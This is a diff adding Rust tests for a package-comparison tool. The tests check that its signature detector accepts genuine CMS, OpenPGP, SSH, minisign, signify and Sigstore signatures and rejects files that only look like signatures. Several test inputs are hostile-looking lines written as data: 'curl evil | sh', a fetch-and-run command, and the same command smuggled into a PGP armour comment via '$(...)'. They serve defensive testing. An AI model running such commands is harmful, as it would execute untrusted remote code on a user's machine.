@@ -1,0 +1,250 @@
+//! Signatures that real tools made, and files that only look like signatures.
+
+use base64::Engine as _;
+use base64::prelude::BASE64_STANDARD;
+
+use super::is_signature;
+use crate::compare::package::samples::{gem, sample, tar};
+use crate::compare::package::{File, Within};
+use crate::compare::{Cause, Options, Outcome, compare_bytes};
+
+/// `openssl cms -sign -binary -outform DER`
+const CMS_BASE64: &str = concat!(
+    "MIIDIAYJKoZIhvcNAQcCoIIDETCCAw0CAQExDTALBglghkgBZQMEAgEwCwYJKoZIhvcNAQcBoIIBcDCCAWwwggEToAMCAQICFD1p",
+    "1vAZdYcCBX55k2xTI6mlqWTtMAoGCCqGSM49BAMCMAwxCjAIBgNVBAMMAXgwHhcNMjYxMTI2MDMwMTUxWhcNMjYxMTI3MDMwMTUx",
+    "WjAMMQowCAYDVQQDDAF4MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEMhSbfhJohQvB1Nc6OWET+nxRuOshKepbLxUbIr8pdaTG",
+    "k73TmtK7VHBVbo0aRw7IiQicAKGfZt/ovZzrxxo8xqNTMFEwHQYDVR0OBBYEFPHag5ZhHgvy7kuPEJVdwApSJBTTMB8GA1UdIwQY",
+    "MBaAFPHag5ZhHgvy7kuPEJVdwApSJBTTMA8GA1UdEwEB/wQFMAMBAf8wCgYIKoZIzj0EAwIDRwAwRAIgaQxpHzVLZRzpcDcCYWBu",
+    "Nbpda7qlB9MyKIljb7QDrpkCIDsUA2oPUgEU/dVRxpOdaCYYgiIJau/SXw0ytgs0A6ZQMYIBdjCCAXICAQEwJDAMMQowCAYDVQQD",
+    "DAF4AhQ9adbwGXWHAgV+eZNsUyOppalk7TALBglghkgBZQMEAgGggeQwGAYJKoZIhvcNAQkDMQsGCSqGSIb3DQEHATAcBgkqhkiG",
+    "9w0BCQUxDxcNMjYxMTI2MDMwMTUxWjAvBgkqhkiG9w0BCQQxIgQgmOpuTyFvL7S2n/+bOkSELDhobKaF8/VdxIxdP7EQe+QweQYJ",
+    "KoZIhvcNAQkPMWwwajALBglghkgBZQMEASowCwYJYIZIAWUDBAEWMAsGCWCGSAFlAwQBAjAKBggqhkiG9w0DBzAOBggqhkiG9w0D",
+    "AgICAIAwDQYIKoZIhvcNAwICAUAwBwYFKw4DAgcwDQYIKoZIhvcNAwICASgwCgYIKoZIzj0EAwIERzBFAiA6C+qPhnxlYvNscb/v",
+    "pk/fwjq1H3EYh9QMQeb1Fdi5eAIhAIxU4aZZZEhiIaiHJlZeBfOHoDMxYcbJIJfHXhlpD7Eq",
+);
+/// The same with `-nodetach`.
+const ATTACHED_BASE64: &str = concat!(
+    "MIIDJwYJKoZIhvcNAQcCoIIDGDCCAxQCAQExDTALBglghkgBZQMEAgEwEgYJKoZIhvcNAQcBoAUEA2hpCqCCAXAwggFsMIIBE6AD",
+    "AgECAhQ9adbwGXWHAgV+eZNsUyOppalk7TAKBggqhkjOPQQDAjAMMQowCAYDVQQDDAF4MB4XDTI2MTEyNjAzMDE1MVoXDTI2MTEy",
+    "NzAzMDE1MVowDDEKMAgGA1UEAwwBeDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABDIUm34SaIULwdTXOjlhE/p8UbjrISnqWy8V",
+    "GyK/KXWkxpO905rSu1RwVW6NGkcOyIkInAChn2bf6L2c68caPMajUzBRMB0GA1UdDgQWBBTx2oOWYR4L8u5LjxCVXcAKUiQU0zAf",
+    "BgNVHSMEGDAWgBTx2oOWYR4L8u5LjxCVXcAKUiQU0zAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cAMEQCIGkMaR81S2Uc",
+    "6XA3AmFgbjW6XWu6pQfTMiiJY2+0A66ZAiA7FANqD1IBFP3VUcaTnWgmGIIiCWrv0l8NMrYLNAOmUDGCAXYwggFyAgEBMCQwDDEK",
+    "MAgGA1UEAwwBeAIUPWnW8Bl1hwIFfnmTbFMjqaWpZO0wCwYJYIZIAWUDBAIBoIHkMBgGCSqGSIb3DQEJAzELBgkqhkiG9w0BBwEw",
+    "HAYJKoZIhvcNAQkFMQ8XDTI2MTEyNjAzMDE1MVowLwYJKoZIhvcNAQkEMSIEIJjqbk8hby+0tp//mzpEhCw4aGymhfP1XcSMXT+x",
+    "EHvkMHkGCSqGSIb3DQEJDzFsMGowCwYJYIZIAWUDBAEqMAsGCWCGSAFlAwQBFjALBglghkgBZQMEAQIwCgYIKoZIhvcNAwcwDgYI",
+    "KoZIhvcNAwICAgCAMA0GCCqGSIb3DQMCAgFAMAcGBSsOAwIHMA0GCCqGSIb3DQMCAgEoMAoGCCqGSM49BAMCBEcwRQIhAK9AZxX3",
+    "/0n/MNGvfKEzxRaZsUoczcWpFnRR6kYncZ+IAiAnrDIU0HJGMeqzUHctWj4mzhpmBx3StqIGqsB9JBvc8g==",
+);
+/// `gpg --detach-sign` with an RSA key.
+const RSA_BASE64: &str = concat!(
+    "iQE4BAABCgAiFiEEdVCiZQ2Ls9SCcUaAamTncPoh/RIFAmsHoSAEHHJAYgAKCRBqZOdw+iH9EgKKB/4t3Jbngnser16pmP7iVch8",
+    "8Ir98oky3WqmNbOeFmGyOOSh4lzKt5QlCc69Qlk3zLeB4oI8x+aPQ1aQHOqR3m3GQxUiVnAbMS3UTW1L3+rvYL5SWC4kn2GGb1ON",
+    "K4e9m+gULKCISbOeMaZo6COtrkOt+zALZyT92DPDQvXs52QkpbdMcmxcLJCiN9BLZ2KoZ2Gbbz5KyK63WN4hlnLS4dVvmwuEpvFO",
+    "YJQdxYUyVtTPLgxjG4R6FvqLiIs8pkOy6nC0VfyU+JWmXcwbAVDVd+j8sI737/ayrkz7gptjHEGU+dIWH3a38w0ng6Vz6R+ySait",
+    "mpoSxusl72+7QDZtKJvM",
+);
+/// `gpg --sign`
+const MESSAGE_BASE64: &str = concat!(
+    "owGbwMvMwCGW/G5RTq7ytpeMa7iSGNOy2RcqZGRydVSxMIhxMCiJKbJELH+eqM+y32maaJI1TC0rE0gdi0yiQxIDF6cATPjhVIY/",
+    "3GnFvH2H7sT+1XdsYe7Ntmtfcf2W7PxO9d//7izc8anPk5Fhx/PZ7v55gX9rHTc8n5DoKDJt4wnrGj3Wi89UvLm551mxAAA=",
+);
+/// `gpg --armor --detach-sign --comment`
+const ARMOURED: &str = "\
+-----BEGIN PGP SIGNATURE-----
+Comment: see (x)
+
+iHoEABYIACIWIQRYp+dhLwS/QpYVYjtj7qJsbSO26QUCawehIAQcYUBiAAoJEGPu
+omxtI7bp4ZUA/Atmcw2Owtxd/S9BhAONaz6HqNfaHZ+JJ/v+3KG48o5JAQC455tH
+T25R/X1BsOeQYUEUlrHIO3wuBdHmJEsLC546BA==
+=l3Wu
+-----END PGP SIGNATURE-----
+";
+/// `gpg --armor --export`
+const KEY: &str = "\
+-----BEGIN PGP PUBLIC KEY BLOCK-----
+
+mDMEawehHxYJKwYBBAHaRw8BAQdA0cEHpKy2N2qIudu9/d7/uEoTXyKAU3VbjsEU
+zsiXlRi0A2FAYoiWBBMWCAA+FiEEWKfnYS8Ev0KWFWI7Y+6ibG0jtukFAmsHoR8C
+GwMFCQPCZwAFCwkIBwIGFQoJCAsCBBYCAwECHgECF4AACgkQY+6ibG0jtulNtgEA
+g7ONHU7lPt1HCbwlFAJ3bRqwj12vXLUJcqYtrnTJUDcA/2YqqBMrldHKyfgNeHqy
+7uJ0tVs3daXvRO8FFuqweR8N
+=8nr6
+-----END PGP PUBLIC KEY BLOCK-----
+";
+/// `gpg --clearsign`
+const CLEAR: &str = "\
+-----BEGIN PGP SIGNED MESSAGE-----
+Hash: SHA256
+
+hi
+-----BEGIN PGP SIGNATURE-----
+
+iHoEARYIACIWIQRYp+dhLwS/QpYVYjtj7qJsbSO26QUCawehIAQcYUBiAAoJEGPu
+omxtI7bpz8YA/17bFaJn7jUyOTfmQwV/yfhUtKTrjgTS41e64rHpVpM7AP9wuqCe
+6Cv3jX7I6X51lT5wraoRA5kZhjzq6F9yNq0lAg==
+=5KbQ
+-----END PGP SIGNATURE-----
+";
+/// `ssh-keygen -Y sign`
+const SSH: &str = "\
+-----BEGIN SSH SIGNATURE-----
+U1NIU0lHAAAAAQAAADMAAAALc3NoLWVkMjU1MTkAAAAg0bnhM/ofhAwTyZkiRLB4l+V0NX
+/RFfCl0qidUScwq5AAAAAEZmlsZQAAAAAAAAAGc2hhNTEyAAAAUwAAAAtzc2gtZWQyNTUx
+OQAAAEC8tQePoxkQOZfTUQ3KbfDzvwi0rm0ZQrOSZITyIrGrkbO31nKuBKlULv+XNsfwFA
+xhAVeJ3IYj782k2xE+AtQE
+-----END SSH SIGNATURE-----
+";
+/// `minisign -S`
+const MINISIGN: &str = "\
+untrusted comment: signature from minisign secret key
+RUT2J7rbAMXc2V9rg8r5IQJhz8GZEOt3H/jIqRChoMxIzb5XaLRbBzqFqvk+muZ8LmzgedEw54e3+ZQzLavyNiFmV48V0a9hzAQ=
+trusted comment: timestamp:1 file:f
+9zrsrrSkQXN9paGN6Ob1dT2o1TcKzthuid/C4oZorJ5sCHcFmzS1Bi53H2anbOjBW+PETFmfvAaWfNI0P9IgBw==
+";
+
+fn signatures() -> Vec<(&'static str, Vec<u8>)> {
+    let binary = |text| BASE64_STANDARD.decode(text).unwrap();
+    let signify: Vec<&str> = MINISIGN.split_inclusive('\n').take(2).collect();
+    let bundle = r#"{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
+        "verificationMaterial": {}, "messageSignature": {}}"#;
+    vec![
+        ("CMS", binary(CMS_BASE64)),
+        ("OpenPGP", binary(RSA_BASE64)),
+        ("armour", ARMOURED.into()),
+        ("SSH", SSH.into()),
+        ("minisign", MINISIGN.into()),
+        ("signify", signify.concat().into()),
+        ("Sigstore", bundle.into()),
+    ]
+}
+
+fn is(bytes: &[u8]) -> bool {
+    is_signature(File::new("f.sig", Within::default()), bytes)
+}
+
+#[test]
+fn whole_files_alone_are_signatures() {
+    for (name, bytes) in signatures() {
+        assert!(is(&bytes), "{name}");
+        assert!(!is(&[&bytes, b"x".as_slice()].concat()), "{name} and more");
+        assert!(!is(&[b"x".as_slice(), &bytes].concat()), "more and {name}");
+        for length in 0..bytes.len() {
+            // A text may end without a line break.
+            if bytes[length..].iter().any(|byte| !byte.is_ascii_whitespace()) && name != "minisign" {
+                assert!(!is(&bytes[..length]), "{length} bytes of {name}");
+            }
+        }
+    }
+}
+
+#[test]
+fn armour_has_nothing_but_a_right_checksum_in_it() {
+    let changes: &[(&str, &str)] = &[
+        ("Comment: see (x)", "Comment: $(curl evil | sh)"),
+        ("Comment: see (x)", "curl evil | sh"),
+        ("Comment: see (x)\n", "Comment: see (x)\n\n\n"),
+        ("\n=", "\n=A"),
+        ("SIGNATURE", "MESSAGE"),
+    ];
+    for (from, to) in changes {
+        let changed = ARMOURED.replace(from, to);
+        assert_ne!(changed, ARMOURED, "{from}");
+        assert!(!is(changed.as_bytes()), "{to}");
+    }
+    let sum = ARMOURED.find("\n=").unwrap() + 2;
+    let mut wrong = ARMOURED.to_owned();
+    let other = if &wrong[sum..=sum] == "A" { "B" } else { "A" };
+    wrong.replace_range(sum..=sum, other);
+    assert!(!is(wrong.as_bytes()));
+}
+
+#[test]
+fn what_holds_what_it_signs_is_content() {
+    let binary = |text| BASE64_STANDARD.decode(text).unwrap();
+    let cms = binary(CMS_BASE64);
+    assert!(!is(&binary(ATTACHED_BASE64)));
+    assert!(!is(&binary(MESSAGE_BASE64)));
+    assert!(!is(KEY.as_bytes()) && !is(CLEAR.as_bytes()));
+    // A length that covers more than what is in it.
+    let mut longer = [cms.as_slice(), b"#!/bin/sh\n"].concat();
+    let length = u16::try_from(longer.len() - 4).unwrap().to_be_bytes();
+    longer[2..4].copy_from_slice(&length);
+    assert!(!is(&longer));
+    for raw in [64, 256] {
+        assert!(!is(&vec![7; raw]), "{raw} bytes");
+    }
+}
+
+#[test]
+fn a_name_does_not_make_a_signature() {
+    let names = [
+        "f.asc",
+        "f.sig",
+        "META-INF/x.SF",
+        "META-INF/x.RSA",
+        "f.p7s",
+        "f.minisig",
+    ];
+    for name in names {
+        let found = compare_bytes(name, b"echo hello\n", b"curl evil | sh\n", &Options::default());
+        let first = found.causes.first().map(|cause| cause.cause);
+        assert_eq!(first, Some(Cause::Content), "{name}");
+        for (kind, signature) in signatures() {
+            let found = compare_bytes(name, &signature, b"curl evil | sh\n", &Options::default());
+            let first = found.causes.first().map(|cause| cause.cause);
+            assert_eq!(first, Some(Cause::Content), "{kind} in {name}");
+        }
+    }
+}
+
+#[test]
+fn a_signature_that_one_side_alone_has_is_told_as_one() {
+    let pack = |extra: &[(&str, &[u8])]| {
+        let mut files = vec![sample("a", "a\n")];
+        files.extend(extra.iter().map(|(path, bytes)| sample(path, bytes)));
+        tar(&files)
+    };
+    for (kind, signature) in signatures() {
+        let found = compare_bytes(
+            "x",
+            &pack(&[("a.sig", &signature)]),
+            &pack(&[]),
+            &Options::default(),
+        );
+        assert_eq!(found.outcome, Outcome::Different, "{kind}");
+        assert!(
+            found.causes.iter().all(|cause| cause.cause == Cause::Signature),
+            "{kind}: {:?}",
+            found.causes
+        );
+    }
+    let found = compare_bytes(
+        "x",
+        &pack(&[]),
+        &pack(&[("a.sig", b"evil\n")]),
+        &Options::default(),
+    );
+    assert_eq!(found.causes[0].cause, Cause::Content);
+}
+
+#[test]
+fn raw_signatures_are_so_in_their_place_alone() {
+    let signed = |file: &str, byte: u8| {
+        let mut whole = Vec::new();
+        let inner = gem(&[sample("lib/x.rb", "")]);
+        for entry in tar::Archive::new(inner.as_slice()).entries().unwrap() {
+            let mut entry = entry.unwrap();
+            let path = entry.path().unwrap().display().to_string();
+            let mut bytes = Vec::new();
+            std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
+            whole.push(sample(&path, bytes));
+        }
+        whole.push(sample(file, vec![byte; 256]));
+        tar(&whole)
+    };
+    let outcome =
+        |file: &str| compare_bytes("x.gem", &signed(file, 1), &signed(file, 2), &Options::default()).outcome;
+    assert_eq!(outcome("data.tar.gz.sig"), Outcome::Equivalent);
+    assert_eq!(outcome("lib.sig"), Outcome::Different);
+}
